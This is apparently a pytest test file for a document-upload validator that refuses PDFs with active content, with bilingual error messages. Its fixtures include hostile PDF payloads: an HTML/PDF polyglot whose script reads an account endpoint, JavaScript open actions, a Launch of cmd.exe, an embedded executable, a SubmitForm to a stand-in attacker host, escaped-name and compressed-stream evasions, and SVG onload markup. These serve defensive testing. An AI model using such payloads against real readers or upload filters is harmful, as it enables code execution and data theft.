"""Documents are inert: a PDF with active content (scripts, actions that run or send something, embedded files,
rich media, XFA), or one that a browser would also take for HTML, is refused with a clear error."""

import io
import zlib

import pytest

from core.documents import check_document
from core.errors import DomainError


def pdf(*objects: bytes, head: bytes = b"%PDF-1.7\n") -> io.BytesIO:
    body = head
    for number, obj in enumerate(objects, start=1):
        body += b"%d 0 obj\n" % number + obj + b"\nendobj\n"
    return io.BytesIO(body + b"trailer\n<< /Root 1 0 R >>\n%%EOF\n")


CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [] /Count 0 >>"

# The file of the report: a PDF that is also a web page with a script, and opens with a JavaScript action.
POLYGLOT = io.BytesIO(
    b"%PDF-1.4\n<html><body><script>fetch('/api/v1/me').then(r=>r.text()).then(alert)</script></body></html>\n"
    b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\nendobj\n"
    b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
)


def refused(upload) -> DomainError:
    with pytest.raises(DomainError) as caught:
        check_document(upload)
    return caught.value


def test_a_plain_pdf_is_kept_as_sent():
    checked = check_document(pdf(CATALOG, PAGES))
    assert checked.content_type == "application/pdf" and checked.content.startswith(b"%PDF-")


def test_the_html_and_javascript_polyglot_is_refused():
    error = refused(POLYGLOT)
    assert error.code == "upload.active_content" and error.status == 422
    assert "活动内容" in error.message_zh and "active content" in error.message_en
    assert error.field_messages("zh") == {"file": error.message_zh}
    assert error.field_messages("en") == {"file": error.message_en}


@pytest.mark.parametrize(
    "catalog",
    [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>",
        b"<< /Type /Catalog /Pages 2 0 R /AA << /O << /S /JavaScript /JS 3 0 R >> >> >>",
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (cmd.exe) >> >>",
        b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(a.exe) 3 0 R] >> >> >>",
        b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /XFA 3 0 R >> >>",
        b"<< /Type /Annot /Subtype /RichMedia >>",
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /SubmitForm /F (https://evil.example) >> >>",
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >> >>",  # escaped
    ],
    ids=["openaction-js", "aa-js", "launch", "embedded-file", "xfa", "richmedia", "submitform", "escaped-names"],
)
def test_active_content_is_refused(catalog):
    assert refused(pdf(catalog, PAGES)).code == "upload.active_content"


def test_active_content_hidden_in_a_compressed_object_stream_is_refused():
    hidden = zlib.compress(b"<< /S /JavaScript /JS (app.alert(1)) >>")
    stream = b"<< /Type /ObjStm /Filter /FlateDecode /Length %d >>\nstream\n" % len(hidden) + hidden + b"\nendstream"
    assert refused(pdf(CATALOG, PAGES, stream)).code == "upload.active_content"


def test_compressed_page_content_without_actions_is_fine():
    content = zlib.compress(b"BT /F1 12 Tf 72 712 Td (Consent form) Tj ET")
    stream = b"<< /Filter /FlateDecode /Length %d >>\nstream\n" % len(content) + content + b"\nendstream"
    assert check_document(pdf(CATALOG, PAGES, stream)).content_type == "application/pdf"


@pytest.mark.parametrize("markup", [b"<!DOCTYPE html>", b"<svg onload=alert(1)>", b"<iframe src=x>", b"<HTML>"])
def test_a_pdf_that_is_also_html_in_its_first_bytes_is_refused(markup):
    assert refused(pdf(CATALOG, PAGES, head=b"%PDF-1.7\n" + markup + b"\n")).code == "upload.active_content"
